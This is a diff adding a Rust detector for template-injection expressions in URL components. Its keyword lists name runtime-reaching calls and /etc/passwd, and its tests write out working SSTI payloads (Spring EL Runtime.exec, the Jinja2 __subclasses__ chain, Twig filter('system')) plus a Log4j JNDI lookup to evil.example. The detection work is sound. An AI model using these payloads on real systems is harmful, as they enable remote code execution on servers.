@@ -1,0 +1,557 @@
+//! Template expressions (`template-injection`): `{{7*7}}`,
+//! `${T(java.lang.Runtime).getRuntime().exec('id')}`, `<%= 7*7 %>` in a
+//! component. An application that renders a request's value as a
+//! template (server-side template injection; AngularJS and other page
+//! frameworks in the browser) evaluates the expression: probes compute
+//! (`7*7` shows as 49), payloads reach the runtime and run commands.
+//!
+//! A placeholder left unrendered (`{{contact.email}}`, `${name}`) is no
+//! expression: only a body that computes is one ([`computes`]): a call,
+//! arithmetic on literals, an index, a Python dunder, an engine's own
+//! objects (`self`, `config`, `request`, `_context`...), a statement
+//! (`{% for ... %}`) or a scriptlet (`<% ... %>`). A `${...}` whose body
+//! starts `word:` is a Log4j lookup (`jndi-lookup`'s), not a template.
+//!
+//! One pass: each delimiter's closer is searched forward only, so a text
+//! of openers with no closer stays linear.
+
+use crate::analysis::ComponentAnalysis;
+use crate::split::Span;
+use crate::text::quote;
+use crate::warnings::{Case, Warning, WarningCode};
+
+/// A template syntax: its opener, its closer, and the engines that read
+/// it.
+struct Syntax {
+    open: &'static [u8],
+    close: &'static [u8],
+    engines: &'static str,
+}
+
+/// The syntaxes of the template engines that template-injection probes
+/// and payloads target (PortSwigger's research, tplmap, PayloadsAllTheThings).
+const SYNTAXES: [Syntax; 9] = [
+    Syntax {
+        open: b"{{",
+        close: b"}}",
+        engines: "Jinja2, Twig, Nunjucks, AngularJS",
+    },
+    Syntax {
+        open: b"${",
+        close: b"}",
+        engines: "FreeMarker, Spring EL, Thymeleaf, Velocity, Mako, Apache Commons Text",
+    },
+    Syntax {
+        open: b"#{",
+        close: b"}",
+        engines: "Spring EL, Thymeleaf, Ruby, Pug",
+    },
+    Syntax {
+        open: b"*{",
+        close: b"}",
+        engines: "Thymeleaf",
+    },
+    Syntax {
+        open: b"{%",
+        close: b"%}",
+        engines: "Jinja2, Twig, Django, Liquid",
+    },
+    Syntax {
+        open: b"<%",
+        close: b"%>",
+        engines: "ERB, JSP, EJS",
+    },
+    Syntax {
+        open: b"[[",
+        close: b"]]",
+        engines: "Thymeleaf",
+    },
+    Syntax {
+        open: b"{$",
+        close: b"}",
+        engines: "Smarty",
+    },
+    Syntax {
+        open: b"@(",
+        close: b")",
+        engines: "Razor",
+    },
+];
+
+/// The objects template engines give every template, which probes name
+/// alone to learn the engine (SecLists' `template-engines-special-vars.txt`):
+/// `{{self}}`, `{{ request }}`. A path from one (`{{ request.path }}`)
+/// is a platform's placeholder unless it computes.
+const ENGINE_OBJECTS: [&str; 11] = [
+    "self",
+    "_self",
+    "_context",
+    "config",
+    "request",
+    "settings",
+    "locals",
+    "globals",
+    "global",
+    "execinfo",
+    "#execinfo",
+];
+
+/// Python's special attributes that lead from any object to its class,
+/// its module's globals and the builtins (Jinja2 and Mako payloads).
+/// Macros written between double underscores (`{{__CAMPAIGN_ID__}}`) are
+/// none of them.
+const DUNDERS: [&str; 12] = [
+    "__class__",
+    "__mro__",
+    "__base__",
+    "__bases__",
+    "__subclasses__",
+    "__globals__",
+    "__builtins__",
+    "__import__",
+    "__init__",
+    "__dict__",
+    "__getattribute__",
+    "__getitem__",
+];
+
+/// Words that reach the runtime from an expression: a class, a module, a
+/// process, an evaluator, the environment, and Jinja2's `attr` filter,
+/// which fetches an attribute by a name built from strings
+/// (`|attr(["__","class","__"]|join)`, past filters that look for
+/// `__class__`); matched as whole words (`important` holds no `import`),
+/// in any case.
+const RUNTIME_WORDS: [&str; 20] = [
+    "attr",
+    "getclass",
+    "forname",
+    "getruntime",
+    "processbuilder",
+    "popen",
+    "system",
+    "exec",
+    "eval",
+    "execute",
+    "subprocess",
+    "import",
+    "require",
+    "child_process",
+    "constructor",
+    "getenv",
+    "open",
+    "passthru",
+    "shell_exec",
+    "/etc/passwd",
+];
+
+/// The statements `{% ... %}` opens in Jinja2, Django, Twig and Liquid
+/// that probes and payloads use; another word (`{% unsubscribe_link %}`,
+/// a mailer's tag) is none.
+const STATEMENTS: [&str; 16] = [
+    "for", "if", "set", "import", "include", "extends", "from", "macro", "call", "with", "block",
+    "debug", "load", "print", "do", "assign",
+];
+
+/// A template expression found in a text.
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) struct Expression {
+    /// Its opener to its closer.
+    pub(crate) start: usize,
+    pub(crate) end: usize,
+    /// The engines whose syntax it is written in.
+    pub(crate) engines: &'static str,
+    /// Whether it reaches the runtime ([`RUNTIME_WORDS`]).
+    pub(crate) runtime: bool,
+}
+
+/// The template expressions of `text` that compute, left to right, none
+/// inside another.
+pub(crate) fn template_expressions(text: &[u8]) -> Vec<Expression> {
+    expressions_starting(text, |_| true)
+}
+
+/// [`template_expressions`], with an opener only where `may_start` says
+/// one may start: in a URL, not at a delimiter (the `#` that opens the
+/// fragment is no `#{`).
+fn expressions_starting(text: &[u8], may_start: impl Fn(usize) -> bool) -> Vec<Expression> {
+    /// Where `needle` is next at or after `from`, through `cache` (the
+    /// last answer, `None` once there is none): searched forward only, as
+    /// `from` only grows.
+    fn next(text: &[u8], needle: &[u8], from: usize, cache: &mut Option<usize>) -> Option<usize> {
+        match *cache {
+            Some(c) if c >= from => Some(c),
+            Some(_) => {
+                *cache = memchr::memmem::find(text.get(from..).unwrap_or_default(), needle)
+                    .map(|c| from + c);
+                *cache
+            }
+            None => None,
+        }
+    }
+    let mut found = Vec::new();
+    // Per syntax, its next closer and its next opener.
+    let mut closers: [Option<usize>; SYNTAXES.len()] = [Some(0); SYNTAXES.len()];
+    let mut openers: [Option<usize>; SYNTAXES.len()] = [Some(0); SYNTAXES.len()];
+    let mut i = 0;
+    while let Some(at) = next_opener(text, i) {
+        i = at + 1;
+        // `${{7*7}}`: the `{{` is the expression.
+        if text.get(at..at + 3) == Some(b"${{") {
+            continue;
+        }
+        let Some((k, syntax)) = SYNTAXES
+            .iter()
+            .enumerate()
+            .find(|(_, s)| text.get(at..at + s.open.len()) == Some(s.open))
+        else {
+            continue;
+        };
+        let (Some(close_at), Some(open_at)) = (closers.get_mut(k), openers.get_mut(k)) else {
+            continue;
+        };
+        let body_start = at + syntax.open.len();
+        let Some(close) = next(text, syntax.close, body_start, close_at) else {
+            continue;
+        };
+        // Another opener of the syntax before the closer: the innermost
+        // is the expression (`{{{7*7}}}`), so each body is read once.
+        if next(text, syntax.open, at + 1, open_at).is_some_and(|o| o < close) {
+            continue;
+        }
+        let body = text.get(body_start..close).unwrap_or_default();
+        if computes(syntax, body) && may_start(at) {
+            found.push(Expression {
+                start: at,
+                end: close + syntax.close.len(),
+                engines: syntax.engines,
+                runtime: reaches_runtime(body),
+            });
+            i = close + syntax.close.len();
+        }
+    }
+    found
+}
+
+/// Whether the two bytes `pair` open a template expression (or a Log4j
+/// lookup, `${`): what the fast path turns away. A match on the bytes,
+/// for the fast path's loops; a test holds it to [`SYNTAXES`].
+pub(crate) fn opens(pair: &[u8]) -> bool {
+    matches!(
+        pair,
+        [b'{', b'{' | b'%' | b'$']
+            | [b'$' | b'#' | b'*', b'{']
+            | [b'<', b'%']
+            | [b'[', b'[']
+            | [b'@', b'(']
+    )
+}
+
+/// Where the next opener starts at or after `from`: one step a byte.
+fn next_opener(text: &[u8], from: usize) -> Option<usize> {
+    let rest = text.get(from..)?;
+    rest.windows(2).position(opens).map(|p| from + p)
+}
+
+/// Whether `body` (between `syntax`'s delimiters) computes: see the
+/// module's documentation.
+fn computes(syntax: &Syntax, body: &[u8]) -> bool {
+    let body = body.trim_ascii();
+    if body.is_empty() {
+        return false;
+    }
+    match syntax.open {
+        b"<%" => return true,
+        b"{%" => return first_word_is(body, &STATEMENTS),
+        // A Log4j lookup (`${env:HOME}`, `${jndi:...}`), unless it reaches
+        // the runtime (`${script:javascript:...}`: Apache Commons Text's
+        // lookups, CVE-2022-42889).
+        b"${" if is_lookup(body) && !reaches_runtime(body) => return false,
+        // Smarty's own variable (`{$smarty.version}`).
+        b"{$" if first_word_is(body, &["smarty"]) => return true,
+        _ => {}
+    }
+    // A call: a name, or a call's or an index's end, then '('.
+    let call = body.windows(2).any(|w| {
+        matches!(w, [a, b'('] if a.is_ascii_alphanumeric() || matches!(a, b')' | b']' | b'\'' | b'"'))
+    });
+    call || has_dunder(body) || arithmetic(body) || is_engine_object(body)
+}
+
+/// Whether `body`'s first word (letters, `_`, `#`) is one of `words`, in
+/// any case.
+fn first_word_is(body: &[u8], words: &[&str]) -> bool {
+    let len = body
+        .iter()
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'#'))
+        .count();
+    let word = body.get(..len).unwrap_or_default();
+    words
+        .iter()
+        .any(|w| word.eq_ignore_ascii_case(w.as_bytes()))
+}
+
+/// Whether `body` names one of [`DUNDERS`].
+fn has_dunder(body: &[u8]) -> bool {
+    memchr::memmem::find(body, b"__").is_some()
+        && DUNDERS
+            .iter()
+            .any(|d| memchr::memmem::find(body, d.as_bytes()).is_some())
+}
+
+/// Whether `body` starts `word:` (letters, then a colon): a Log4j lookup.
+fn is_lookup(body: &[u8]) -> bool {
+    let word = body.iter().take_while(|b| b.is_ascii_alphabetic()).count();
+    word > 0 && body.get(word) == Some(&b':')
+}
+
+/// Whether `body` holds arithmetic on literals: a digit, an operator, a
+/// digit or a quote (`7*7`, `7*'7'`, `1+2`, `7 - 7`). `*` and `+` may
+/// touch their operands; `-`, `/` and `%` must have a space beside them
+/// (`2024-01-01` is a date, `1/2` a fraction, `1%2C2` an escape).
+fn arithmetic(body: &[u8]) -> bool {
+    let spaces = |mut j: usize| {
+        while body.get(j) == Some(&b' ') {
+            j += 1;
+        }
+        j
+    };
+    body.iter().enumerate().any(|(i, &b)| {
+        if !b.is_ascii_digit() {
+            return false;
+        }
+        let op = spaces(i + 1);
+        let operand = spaces(op + 1);
+        let spaced = op > i + 1 || operand > op + 1;
+        let operator = match body.get(op) {
+            Some(b'*' | b'+') => true,
+            Some(b'-' | b'/' | b'%') => spaced,
+            _ => false,
+        };
+        operator
+            && body
+                .get(operand)
+                .is_some_and(|&c| c.is_ascii_digit() || c == b'\'' || c == b'"')
+    })
+}
+
+/// Whether `body` is one of [`ENGINE_OBJECTS`] alone (`{{self}}`,
+/// `{{ request }}`).
+fn is_engine_object(body: &[u8]) -> bool {
+    ENGINE_OBJECTS
+        .iter()
+        .any(|o| body.eq_ignore_ascii_case(o.as_bytes()))
+}
+
+/// Whether `body` names a way into the runtime: one of [`DUNDERS`], or
+/// one of [`RUNTIME_WORDS`] as a whole word.
+fn reaches_runtime(body: &[u8]) -> bool {
+    let lower = body.to_ascii_lowercase();
+    let word_byte = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphanumeric());
+    has_dunder(&lower)
+        || RUNTIME_WORDS.iter().any(|w| {
+            memchr::memmem::find_iter(&lower, w.as_bytes()).any(|at| {
+                let before = at.checked_sub(1).and_then(|p| lower.get(p));
+                !word_byte(before) && !word_byte(lower.get(at + w.len()))
+            })
+        })
+}
+
+/// `template-injection` for the input as written, whole: an expression
+/// may span components (`/{{''.__class__.__mro__[2]}}` holds no '/', but
+/// `('/etc/passwd')` does). `component_at` gives the component a byte is
+/// in, and `label_at` its kind's label.
+pub(crate) fn input_template_warnings(
+    input: &[u8],
+    component_at: impl Fn(usize) -> Option<usize>,
+    label_at: impl Fn(usize) -> &'static str,
+    out: &mut Vec<Warning>,
+) {
+    for e in expressions_starting(input, |at| component_at(at).is_some()) {
+        let span = Span::new(e.start, e.end);
+        out.push(warning(
+            &e,
+            span.of(input),
+            span,
+            component_at(e.start),
+            label_at(e.start),
+        ));
+    }
+}
+
+/// The expressions of a component's `decoded` text that its text as
+/// written (`raw`) does not already hold: those only decoding writes
+/// (`%7B%7B7*7%7D%7D`).
+pub(crate) fn decoded_only_expressions(raw: &[u8], decoded: &[u8]) -> Vec<Expression> {
+    if decoded == raw {
+        return Vec::new();
+    }
+    let written: Vec<Vec<u8>> = template_expressions(raw)
+        .iter()
+        .map(|e| {
+            crate::percent::decode(raw.get(e.start..e.end).unwrap_or_default(), false).into_owned()
+        })
+        .collect();
+    let mut found = template_expressions(decoded);
+    found.retain(|e| {
+        let text = decoded.get(e.start..e.end).unwrap_or_default();
+        !written.iter().any(|w| w == text)
+    });
+    found
+}
+
+/// `template-injection` for component `i` once decoded, where decoding
+/// wrote an expression (`%7B%7B7*7%7D%7D`; the input as written is read
+/// whole by [`input_template_warnings`]): the component is marked whole.
+pub(crate) fn template_warnings(i: usize, c: &ComponentAnalysis, out: &mut Vec<Warning>) {
+    let text = c.last_layer();
+    for e in decoded_only_expressions(c.span.of(&c.input), text) {
+        let written = text.get(e.start..e.end).unwrap_or_default();
+        out.push(warning(&e, written, c.span, Some(i), c.kind.label()));
+    }
+}
+
+/// The warning of expression `e`, written `written`, at `span` of
+/// component `component`, a `what` (its kind's label).
+fn warning(
+    e: &Expression,
+    written: &[u8],
+    span: Span,
+    component: Option<usize>,
+    what: &str,
+) -> Warning {
+    let reach = if e.runtime {
+        " It reaches into the runtime (a class, a module, a process, an evaluator): a payload that runs code where it is rendered, not a probe."
+    } else {
+        ""
+    };
+    // The fragment never reaches a server: only a page's script reads it.
+    let renders = if what == "fragment" {
+        "a page script that renders the fragment as a template (AngularJS) evaluates it in the browser; the fragment never reaches a server".to_string()
+    } else {
+        format!("an application that renders this {what} as a template evaluates it")
+    };
+    let message = format!(
+        "'{}' is a template expression ({}): {renders} (template injection).{reach}",
+        quote(written),
+        e.engines,
+    );
+    if e.runtime {
+        Warning::for_case(Case::TemplateRuntime, vec![span], component, message)
+    } else {
+        Warning::new(
+            WarningCode::TemplateInjection,
+            vec![span],
+            component,
+            message,
+        )
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(text: &str) -> Vec<(&str, bool)> {
+        template_expressions(text.as_bytes())
+            .into_iter()
+            .map(|e| (text.get(e.start..e.end).unwrap_or_default(), e.runtime))
+            .collect()
+    }
+
+    #[test]
+    fn expressions_that_compute_are_found() {
+        assert_eq!(found("{{7*7}}"), [("{{7*7}}", false)]);
+        assert_eq!(found("a=${7*7}&b"), [("${7*7}", false)]);
+        assert_eq!(found("#{ 7 * 7 }"), [("#{ 7 * 7 }", false)]);
+        assert_eq!(found("<%= 7 * 7 %>"), [("<%= 7 * 7 %>", false)]);
+        assert_eq!(found("${{7*7}}"), [("{{7*7}}", false)]);
+        assert_eq!(found("{{7*'7'}}"), [("{{7*'7'}}", false)]);
+        assert_eq!(found("@(1+2)"), [("@(1+2)", false)]);
+        assert_eq!(found("[[5*5]]"), [("[[5*5]]", false)]);
+        assert_eq!(found("{{config.items()}}"), [("{{config.items()}}", false)]);
+        assert_eq!(found("{{ request }}"), [("{{ request }}", false)]);
+        assert_eq!(found("{$smarty.version}"), [("{$smarty.version}", false)]);
+        assert_eq!(found("{{{7*7}}}"), [("{{7*7}}", false)]);
+        assert_eq!(
+            found("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
+            [(
+                "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+                true
+            )]
+        );
+        assert_eq!(
+            found("{{['id']|filter('system')}}"),
+            [("{{['id']|filter('system')}}", true)]
+        );
+        assert_eq!(found("{% for x in y %}"), [("{% for x in y %}", false)]);
+        assert_eq!(
+            found("${T(java.lang.Runtime).getRuntime().exec('id')}"),
+            [("${T(java.lang.Runtime).getRuntime().exec('id')}", true)]
+        );
+        assert_eq!(
+            found("{{''.__class__.__mro__[2].__subclasses__()}}"),
+            [("{{''.__class__.__mro__[2].__subclasses__()}}", true)]
+        );
+    }
+
+    /// Placeholders left unrendered, Log4j lookups, text.
+    #[test]
+    fn placeholders_and_lookups_are_not_expressions() {
+        for text in [
+            "{{contact.email}}",
+            "{{ first_name }}",
+            "${name}",
+            "${env:HOME}",
+            "${jndi:ldap://evil.example/a}",
+            "#{id}",
+            "{{ customer.email | url_encode }}",
+            "{{}}",
+            "{{7*7",
+            "@user(1)",
+            "[[wiki link]]",
+            "a{b}c",
+            "{{__CAMPAIGN_ID__}}",
+            "${__CLICK_ID__}",
+            "{{ request.path }}",
+            "{{ settings.logo | img_url }}",
+            "[[Mercury_(planet)]]",
+            "{{2024-01-01}}",
+            "[[1%2C2]%2C[3%2C4]]",
+            "{{ 50%25_off }}",
+            "{% unsubscribe_link %}",
+            "{{ product.images[0] }}",
+            "{{ contact.last_imported }}",
+        ] {
+            assert!(found(text).is_empty(), "{text}: {:?}", found(text));
+        }
+    }
+
+    #[test]
+    fn opens_is_the_syntaxes_openers() {
+        for a in 0..=255u8 {
+            for b in 0..=255u8 {
+                let pair = [a, b];
+                assert_eq!(
+                    opens(&pair),
+                    SYNTAXES.iter().any(|s| s.open == pair),
+                    "{pair:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn openers_without_closers_stay_linear() {
+        let many = "{{".repeat(200_000);
+        assert!(found(&many).is_empty());
+        let mixed = "{{${#{<%[[@(".repeat(50_000);
+        assert!(found(&mixed).is_empty());
+        let probes = "{{7*7}}".repeat(10_000);
+        assert_eq!(found(&probes).len(), 10_000);
+        // Openers sharing one far closer: each body is read once.
+        for opener in ["{{a", "${a", "[[a", "@(a"] {
+            let shared = opener.repeat(100_000) + "}})]]";
+            assert!(found(&shared).is_empty(), "{opener}");
+        }
+    }
+}
